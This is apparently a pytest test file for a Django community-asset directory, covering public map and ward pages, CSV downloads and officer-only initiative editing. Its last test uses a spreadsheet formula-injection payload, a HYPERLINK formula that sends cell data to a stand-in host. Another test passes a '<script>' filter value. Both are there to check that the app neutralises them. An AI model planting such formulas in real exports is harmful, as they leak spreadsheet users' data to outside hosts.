"""The public asset pages, their CSV downloads, and officers' initiative pages."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from commonweal.core.models import AuditEntry
from commonweal.directory.constants import AssetType, DirectoryAuditKind, InitiativeKind
from commonweal.directory.models import Initiative
from commonweal.directory.tests.assets.factories import InitiativeFactory, place
from commonweal.directory.tests.factories import ServiceFactory

pytestmark = pytest.mark.django_db


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.mark.parametrize(
    "name", ["directory:asset_map", "directory:ward_counts", "directory:ward_matrix"]
)
def test_public_pages_open_without_signing_in(client, borough, name, django_assert_max_num_queries):
    with django_assert_max_num_queries(12):
        response = client.get(reverse(name))
    assert response.status_code == 200
    assert b"Tilbury refuge" not in response.content


def test_query_count_does_not_grow_with_the_places(client, borough, django_assert_max_num_queries):
    for n in range(15):
        service = ServiceFactory(name=f"Extra activity {n}")
        place(ward=borough.grays, name=f"Extra hall {n}", meeting=True, services=(service,))
    with django_assert_max_num_queries(12):
        response = client.get(reverse("directory:asset_map"))
    assert len(response.context["places"]) == 18
    with django_assert_max_num_queries(12):
        client.get(reverse("directory:ward_counts"))
    with django_assert_max_num_queries(14):
        client.get(reverse("directory:ward_detail", args=[borough.grays.code]))


def test_asset_map_page_and_csv_have_the_same_rows(client, borough):
    response = client.get(reverse("directory:asset_map"), {"ward": borough.grays.code})
    page_names = [place.name for place in response.context["places"]]
    assert page_names == ["Grays Library", "Riverside club room"]
    content = response.content.decode()
    for name in page_names:
        assert name in content
    assert "Aveley Village Hall" not in content
    # The map carries the places that have a point; the list says why the other is missing.
    assert '"name": "Grays Library"' in content
    assert "One of these places is in the list but not on the map" in content
    # Each listed service links to its public page.
    assert (
        reverse("directory:service_detail", args=[borough.services["choir"].public_id]) in content
    )

    download = client.get(reverse("directory:asset_map_csv"), {"ward": borough.grays.code})
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"]
    rows = csv_rows(download)
    assert rows[0][:3] == ["Name", "Asset type", "Place to meet"]
    assert [row[0] for row in rows[1:]] == page_names


def test_asset_map_with_nonsense_filters_shows_an_error_and_every_place(client, borough):
    response = client.get(
        reverse("directory:asset_map"), {"ward": "<script>", "asset_type": "castle" * 500}
    )
    assert response.status_code == 200
    assert b"There is a problem" in response.content
    assert b"<script>" not in response.content
    assert len(response.context["places"]) == 3


def test_ward_matrix_page_is_an_accessible_table(client, borough):
    response = client.get(reverse("directory:ward_matrix"))
    content = response.content.decode()
    assert "<caption" in content
    assert content.count('scope="col"') == 4  # "Initiative" and three wards, not the other district
    assert "Somewhere Else" not in content
    assert '<span class="govuk-visually-hidden">Yes</span>' in content
    assert content.count('<span class="govuk-visually-hidden">Yes</span>') == 4
    assert "Wards with no timebank" in content
    assert "Old befriending scheme" not in content


def test_ward_matrix_csv(client, borough):
    response = client.get(reverse("directory:ward_matrix_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert rows[0] == [
        "Kind",
        "Initiative",
        "Aveley and Uplands",
        "Grays Riverside",
        "Tilbury Riverside",
    ]
    assert ["Timebank", "Tilbury timebank", "", "", "Yes"] in rows


def test_ward_counts_page_states_the_gap_rule_and_marks_gaps_in_words(client, borough):
    response = client.get(reverse("directory:ward_counts"))
    content = response.content.decode()
    assert "less than 50% of the" in content
    assert content.count('<span class="cw-heat__gap">Gap</span>') == sum(
        cell.is_gap
        for row in response.context["counts"].rows
        for cell in (row.places_to_meet, row.services, *row.by_category)
    )
    download = client.get(reverse("directory:ward_counts_csv"))
    assert download["Content-Type"].startswith("text/csv")
    rows = csv_rows(download)
    assert rows[0][:4] == ["Ward code", "Ward", "Places to meet", "All activities and services"]
    assert [row[1] for row in rows[1:]] == [
        row.ward.name for row in response.context["counts"].rows
    ]


def test_ward_detail_page(client, borough):
    response = client.get(reverse("directory:ward_detail", args=[borough.grays.code.lower()]))
    assert response.status_code == 200
    content = response.content.decode()
    assert (
        "Grays Library" in content and "Grays hub" in content and "Grays drop-in clinic" in content
    )
    assert client.get(reverse("directory:ward_detail", args=["E05999999"])).status_code == 404
    # A ward of another district is not one of the borough's.
    assert (
        client.get(reverse("directory:ward_detail", args=[borough.elsewhere.code])).status_code
        == 404
    )


def test_pages_work_before_any_wards_are_loaded(client, db):
    for name in ("directory:asset_map", "directory:ward_counts", "directory:ward_matrix"):
        assert client.get(reverse(name)).status_code == 200


# --- officers manage initiatives ---------------------------------------------------------------


def test_initiative_pages_need_an_officer(client, borough, group_rep):
    url = reverse("directory:initiative_add")
    response = client.get(url)
    assert response.status_code == 302 and "sign-in" in response["Location"]
    client.force_login(group_rep)
    assert client.get(url).status_code == 403
    assert client.post(url, {"name": "Sneaky", "kind": "timebank"}).status_code == 403
    assert not Initiative.objects.filter(name="Sneaky").exists()


def test_officer_adds_an_initiative_with_wards(client, borough, officer):
    client.force_login(officer)
    page = client.get(reverse("directory:initiative_add"))
    assert page.status_code == 200
    assert b"Select all wards" in page.content
    response = client.post(
        reverse("directory:initiative_add"),
        {
            "name": "Chadwell befriending",
            "kind": InitiativeKind.BEFRIENDING,
            "started_on": "1/4/2025",
            "wards": [borough.aveley.code, borough.tilbury.code],
        },
    )
    assert response.status_code == 302
    initiative = Initiative.objects.get(name="Chadwell befriending")
    assert set(initiative.wards.all()) == {borough.aveley, borough.tilbury}
    assert initiative.started_on.isoformat() == "2025-04-01"
    assert AuditEntry.objects.filter(
        kind=DirectoryAuditKind.INITIATIVE_SAVED, actor=officer, target_id=str(initiative.pk)
    ).exists()
    matrix = client.get(reverse("directory:ward_matrix")).content.decode()
    assert "Chadwell befriending" in matrix


def test_officer_changes_an_initiatives_wards(client, borough, officer):
    client.force_login(officer)
    hub = borough.initiatives["hub_a"]
    url = reverse("directory:initiative_edit", args=[hub.public_id])
    page = client.get(url).content.decode()
    assert f'value="{borough.aveley.code}" checked' in page
    response = client.post(
        url, {"name": hub.name, "kind": hub.kind, "wards": [borough.tilbury.code]}
    )
    assert response.status_code == 302
    assert list(hub.wards.all()) == [borough.tilbury]


def test_initiative_form_keeps_what_was_typed_on_error(client, borough, officer):
    client.force_login(officer)
    response = client.post(
        reverse("directory:initiative_add"),
        {
            "name": "Half-finished hub",
            "kind": "not-a-kind",
            "started_on": "2025-05-01",
            "ended_on": "2024-01-01",
            "wards": [borough.grays.code, "E05999999"],
        },
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "There is a problem" in content
    assert 'value="Half-finished hub"' in content
    assert "The end date must not be before the start date." in content
    assert not Initiative.objects.filter(name="Half-finished hub").exists()


def test_initiative_list(client, borough, officer, django_assert_max_num_queries):
    InitiativeFactory.create_batch(5, wards=borough.wards)
    client.force_login(officer)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("directory:initiative_list"))
    assert response.status_code == 200
    assert b"Tilbury timebank" in response.content


def test_asset_csv_does_not_hand_spreadsheets_a_formula(client, borough):
    formula = '=HYPERLINK("https://example.org/?d="&A1, "Open")'
    place(
        ward=borough.grays,
        name=formula,
        asset_type=AssetType.CULTURAL,
        meeting=True,
        services=(ServiceFactory(),),
    )
    download = client.get(reverse("directory:asset_map_csv"), {"ward": borough.grays.code})
    names = [row[0] for row in csv_rows(download)[1:]]
    assert "'" + formula in names
    assert formula not in names
